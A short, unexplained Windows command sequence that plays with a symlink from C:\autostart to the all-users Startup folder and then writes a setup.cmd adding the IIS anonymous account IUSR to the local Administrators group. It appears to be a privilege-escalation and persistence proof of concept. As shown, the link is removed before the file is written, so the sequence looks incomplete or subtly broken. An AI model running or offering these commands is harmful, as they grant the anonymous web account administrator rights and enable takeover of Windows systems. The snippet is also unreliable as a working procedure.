mklink /d C:\autostart "C:\ProgramData\Microsoft\Windows\Start Menu\Programs\StartUp"
rd C:\autostart
md C:\autostart
echo net localgroup Administrators IUSR /add > C:\autostart\setup.cmd
